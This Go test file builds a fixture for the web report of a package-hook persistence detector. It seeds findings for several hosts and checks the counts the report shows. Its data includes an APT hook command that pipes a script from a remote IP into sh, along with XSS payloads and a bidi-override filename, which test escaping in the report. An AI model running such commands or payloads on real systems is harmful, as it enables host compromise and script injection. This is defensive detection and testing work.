package webreport

import (
	"context"
	"os"
	"testing"
	"time"

	"github.com/pkgpersist/pkgpersist/collector/ingest"
	"github.com/pkgpersist/pkgpersist/collector/querydef"
	"github.com/pkgpersist/pkgpersist/collector/store"
	"github.com/pkgpersist/pkgpersist/queries"
	"github.com/pkgpersist/pkgpersist/test/storetest"
)

func TestMain(m *testing.M) {
	code := storetest.Main(m)
	bench.remove()
	os.Exit(code)
}

// Values a host controls, as an attacker would write them: each must
// show as its literal text and never become markup.
const (
	hostileCommand = `</script><img src=x onerror="document.title='pwned'"><script>document.title='pwned'</script>`
	hostilePath    = `/etc/apt/apt.conf.d/99"><svg onload=alert(1)>`
	hostileHost    = `<img src=y onerror=alert(2)>`
	// what reorders or hides text: shown escaped, as the terminal shows it
	hostileBidi = "evil\u202egpj.sh\u200b\u2028\u0007"
)

// The fixture's clock: the stacks' events (collector/stacks/testdata)
// were logged in the three days before now.
var (
	now  = time.Unix(1795348800, 0)
	day1 = now.Add(-5 * 24 * time.Hour)
	day3 = now.Add(-3 * 24 * time.Hour)
)

// docker-clean is a row the shipped triage defaults cover.
var dockerClean = store.Row{"manager": "apt", "path": "/etc/apt/apt.conf.d/docker-clean", "hook": "DPkg::Post-Invoke", "line": "1",
	"command": "rm -f /var/cache/apt/archives/*.deb /var/cache/apt/archives/partial/*.deb /var/cache/apt/*.bin || true"}

// fixture is a store with findings on four hosts over two days:
//
//	day 1  web1, web2, db1, HOSTILE ok: shared (web1, web2), dbrow (db1),
//	       hostile (HOSTILE), docker-clean (web2: a shipped default covers it)
//	day 3  web1 ok: shared again and owned-changed (hook-runs-unowned,
//	       package and sha256) new; web2 incomplete (an unreadable file),
//	       its rows the same; db1 failed: nothing stored, its day-1 row
//	       stays its finding
//
// dbrow is triaged by an analyst for every host. The hunt's stacks come
// from the events in collector/stacks/testdata (hosts h0 to h10, which
// never ran a hunt: they log).
func fixture(t testing.TB) (*store.DB, Options) {
	t.Helper()
	st := storetest.Open(t)
	ctx := context.Background()
	qs, err := querydef.Load(queries.FS)
	if err != nil {
		t.Fatal(err)
	}
	var run []store.Query
	for _, q := range qs {
		run = append(run, store.Query{ID: q.ID, Title: q.Title, Kind: q.Kind, SQL: q.SQL, Attack: q.Attack, Volatile: q.Volatile})
	}
	save := func(at time.Time, hs ...store.HostResult) {
		t.Helper()
		id, err := st.BeginRun(ctx, store.Run{Started: at, Transport: "local"}, run)
		if err != nil {
			t.Fatal(err)
		}
		for _, h := range hs {
			if err := st.SaveHost(ctx, id, h); err != nil {
				t.Fatal(err)
			}
		}
	}
	hooks := func(host, state string, rows ...store.Row) store.HostResult {
		return store.HostResult{Host: host, State: state, Queries: []store.QueryResult{{QueryID: "unowned-hooks", Rows: rows}}}
	}
	shared := store.Row{"manager": "apt", "hook": "APT::Update::Pre-Invoke", "command": "curl -s http://203.0.113.9/x | sh", "path": "/etc/apt/apt.conf.d/01update", "line": "3"}
	dbrow := store.Row{"manager": "dpkg", "hook": "post-invoke", "command": "/usr/local/bin/backup", "path": "/etc/dpkg/dpkg.cfg.d/backup", "line": "7"}
	hostile := store.Row{"manager": "apt", "hook": "DPkg::Pre-Invoke", "command": hostileCommand, "path": hostilePath, "line": "12", "package": hostileBidi}
	changed := store.Row{"source_table": "apt_hooks", "manager": "apt", "hook": "DPkg::Post-Invoke", "path": "/etc/apt/apt.conf.d/20listchanges", "line": "2",
		"word": "/usr/bin/apt-listchanges", "how": "command", "via": "", "target": "/usr/bin/apt-listchanges", "resolved": "/usr/bin/apt-listchanges",
		"package": "apt-listchanges", "package_modified": "1", "sha256": "9f2c4e1d0b8a7c6e5f4d3c2b1a0f9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a21"}
	save(day1,
		hooks("web1", store.StateOK, shared),
		hooks("web2", store.StateOK, shared, dockerClean),
		hooks("db1", store.StateOK, dbrow),
		hooks(hostileHost, store.StateOK, hostile))
	web1 := hooks("web1", store.StateOK, shared)
	web1.Queries = append(web1.Queries, store.QueryResult{QueryID: "hook-runs-unowned", Rows: []store.Row{changed}})
	web2 := hooks("web2", store.StateIncomplete, shared, dockerClean)
	web2.Reasons = []string{"cannot read /etc/apt/apt.conf.d/50secret (permission): run as root"}
	web2.Queries[0].Problems = []store.Problem{{Path: "/etc/apt/apt.conf.d/50secret", Cause: "permission", Detail: "open: permission denied"}}
	save(day3, web1, web2, store.HostResult{Host: "db1", State: store.StateFailed, Err: "ssh: connect to host db1 port 22: Connection refused", Reasons: []string{"unreachable"}})
	cur, err := st.Current(ctx, "db1", "unowned-hooks")
	if err != nil || len(cur) != 1 {
		t.Fatalf("db1's finding: %v %v", cur, err)
	}
	if _, err := st.AddTriage(ctx, store.Triage{QueryID: "unowned-hooks", Hash: cur[0].RowHash, Row: cur[0].Row, Verdict: "benign",
		Reason: "our backup hook, ticket 42", Who: "alice", Created: day3, Until: now.Add(90 * 24 * time.Hour)}); err != nil {
		t.Fatal(err)
	}
	f, err := os.Open("../stacks/testdata/hunt.results.log")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if s, err := ingest.Read(ctx, st, f, "hunt"); err != nil || s.Bad != 0 {
		t.Fatalf("ingest: %+v %v", s, err)
	}
	o := Defaults()
	o.DB, o.Queries, o.Now, o.StacksSince = "fixture.db", qs, now, 3*24*time.Hour
	return st, o
}

// What the fixture's page must show.
var (
	wantStates = map[string]string{"web1": "ok", "web2": "incomplete", "db1": "failed", hostileHost: "ok",
		"h0": stateLogging, "h10": stateLogging}
	// host: findings, triaged
	wantHostFindings = map[string][2]int{"web1": {2, 0}, "web2": {2, 1}, "db1": {1, 1}, hostileHost: {1, 0}}
	// detection: distinct findings, on hosts, hosts, triaged
	wantDetections = map[string][4]int{"unowned-hooks": {4, 5, 4, 2}, "hook-runs-unowned": {1, 1, 1, 0}, "unowned-plugins": {0, 0, 0, 0}}
	// new per day: day 1 web1 shared, web2 shared and docker-clean, db1
	// dbrow, HOSTILE hostile; day 3 web1 changed
	wantDays = map[string]int{day1.UTC().Format("2006-01-02"): 5, day3.UTC().Format("2006-01-02"): 1}
	// collector/stacks' wantStacks: 3 file groups, 4 child groups kept
	wantStackFiles, wantStackChildren = 3, 4
)
